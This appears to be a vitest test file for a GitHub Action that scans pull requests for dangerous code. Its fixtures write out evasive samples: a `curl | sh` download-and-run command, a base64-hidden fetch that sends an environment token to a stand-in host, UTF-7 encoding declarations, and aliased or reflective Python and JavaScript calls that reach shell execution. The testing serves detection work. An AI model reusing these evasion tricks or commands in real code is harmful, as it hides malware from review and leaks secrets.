import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put } from "./pr";

// The December 6 red-team round: each pull request below passed the built Action (exit 0) before its fix, and runs its
// command under CPython 3 as written.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";
/** The run's error annotations as "rule file line column: message". */
const errors = (commands: string[]) =>
  commands.filter((c) => c.startsWith("::error title=")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+),endColumn=\d+::(.*)$/.exec(c)!.slice(1).join(" ")).sort();

describe("scan/skipped-file: a PEP 263 declaration CPython honours wherever it reads one", () => {
  it("scan/skipped-file: `# coding: utf-7` below a first comment line over 512 bytes, in a `.dat` a Procfile runs with python3, and in a workflow step run by `shell: python {0}` fails the built Action", async () => {
    const seven = `import os\n+AG8-s.system("${CMD}")\n`;
    const pr = await pullRequest((dir) => {
      put(dir, "agent/long.py", `# ${"licence ".repeat(80)}\n# coding: utf-7\n${seven}`);
      put(dir, "Procfile", "worker: python3 jobs/run.dat\n");
      put(dir, "jobs/run.dat", `# coding: utf-7\n${seven}`);
      put(dir, ".github/workflows/nightly.yml", ["on: push", "jobs:", "  a:", "    runs-on: ubuntu-latest", "    steps:", "      - shell: python {0}", "        run: |", "          # coding: utf-7", "          import os", `          +AG8-s.system("${CMD}")`, ""].join("\n"));
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errors(r.commands)).toEqual([
      '.github/workflows/nightly.yml 1 1 Not scanned: it names what Node or Python runs, and a step\'s Python declares the source encoding "utf-7" (PEP 263), which is not read.',
      'agent/long.py 1 1 Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.',
      'jobs/run.dat 1 1 Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.',
    ].map((e) => `scan/skipped-file ${e}`));
  });
});

describe("a constructor reached by a subscript (`new globalThis[\"WebSocket\"](u)`) is read as a call's callee is", () => {
  it("scan/network-call, scan/shell-command, scan/model-sdk: `new globalThis[\"WebSocket\"]`, `new globalThis[\"Function\"](code)()` and `new sdk[\"OpenAI\"]()` fail the built Action, each at the constructor", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/ctor.js", `const CODE = "process.mainModule.require('child_process').execSync('${CMD}')";\nnew globalThis["Function"](CODE)();\nconst socket = new globalThis["WebSocket"]("wss://x.example");\n`);
      put(dir, "agent/model.ts", 'import * as sdk from "openai";\nexport const client = new sdk["OpenAI"]();\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errors(r.commands).map((e) => e.split(" ").slice(0, 4).join(" "))).toEqual([
      "scan/model-sdk agent/model.ts 2 27",
      "scan/network-call agent/ctor.js 3 20",
      "scan/shell-command agent/ctor.js 2 5",
    ]);
  });
});

describe("a member picked by a name the scan cannot read: of the global object (any global, `eval` and `fetch` among them), and of a module through `Reflect.get`", () => {
  it("scan/dynamic-code, scan/shell-command: `globalThis[name](u)`, `Reflect.get(g, name)(u)` of a held global object, and `Reflect.get(cp, verb)(cmd)` fail the built Action, at each", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/pick.js", 'const name = Buffer.from("ZmV0Y2g=", "base64").toString();\nglobalThis[name]("https://x.example/?d=" + process.env.TOKEN);\nconst g = globalThis;\nReflect.get(g, name)("https://x.example/");\n');
      put(dir, "agent/reflect.js", `const cp = require("child_process");\nconst verb = process.argv[2];\nReflect.get(cp, verb)("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errors(r.commands).map((e) => e.split(" ").slice(0, 4).join(" "))).toEqual([
      "scan/dynamic-code agent/pick.js 2 1",
      "scan/dynamic-code agent/pick.js 4 1",
      "scan/shell-command agent/reflect.js 3 1",
    ]);
    expect(r.commands.find((c) => c.includes("agent/pick.js,line=2"))).toContain("it is a global picked by a name the scan cannot read: eval, Function and fetch among them");
  });
});

describe("Python's importers reached through a module held by another name, and the builtins' dict", () => {
  it("scan/shell-command, scan/dynamic-code: `il.import_module(\"subprocess\")` of `import importlib as il`, `b.__import__(\"os\")` of `import builtins as b`, `globals()[\"__builtins__\"]` and `__builtins__.get(name)` fail the built Action, at each", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/alias.py", `import importlib as il, builtins as b\nil.import_module("subprocess").run("${CMD}", shell=True)\nb.__import__("os").system("${CMD}")\n`);
      put(dir, "agent/tools/dicts.py", `globals()["__builtins__"]["__import__"]("os").system("${CMD}")\nname = input()\n__builtins__.get(name)("${CMD}")\nil = __import__("importlib")\nil.import_module(name)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errors(r.commands).map((e) => e.split(" ").slice(0, 4).join(" "))).toEqual([
      "scan/dynamic-code agent/tools/dicts.py 3 1",
      "scan/dynamic-code agent/tools/dicts.py 5 1",
      "scan/shell-command agent/alias.py 2 1",
      "scan/shell-command agent/alias.py 3 1",
      "scan/shell-command agent/tools/dicts.py 1 1",
    ]);
  });
});

describe("modules the scan reads by their written names, imported under another name", () => {
  it("scan/shell-command, scan/dynamic-code: `s.modules[\"os\"]` of `import sys as s`, `pk.resolve_name(\"os:system\")` of `import pkgutil as pk` (and pkgutil's `module:member` unaliased), `op.attrgetter` of `import operator as op` fail the built Action, at each", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/aliases.py", `import sys as s, pkgutil as pk, operator as op, os\ns.modules["os"].system("${CMD}")\npk.resolve_name("os:system")("${CMD}")\nop.attrgetter("system")(os)("${CMD}")\npk.resolve_name(input())\n`);
      put(dir, "agent/colon.py", `import pkgutil\npkgutil.resolve_name("subprocess:getoutput")("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errors(r.commands).map((e) => e.split(" ").slice(0, 4).join(" "))).toEqual([
      "scan/dynamic-code agent/aliases.py 5 1",
      "scan/shell-command agent/aliases.py 2 1",
      "scan/shell-command agent/aliases.py 3 1",
      "scan/shell-command agent/aliases.py 4 1",
      "scan/shell-command agent/colon.py 2 1",
    ]);
  });
});
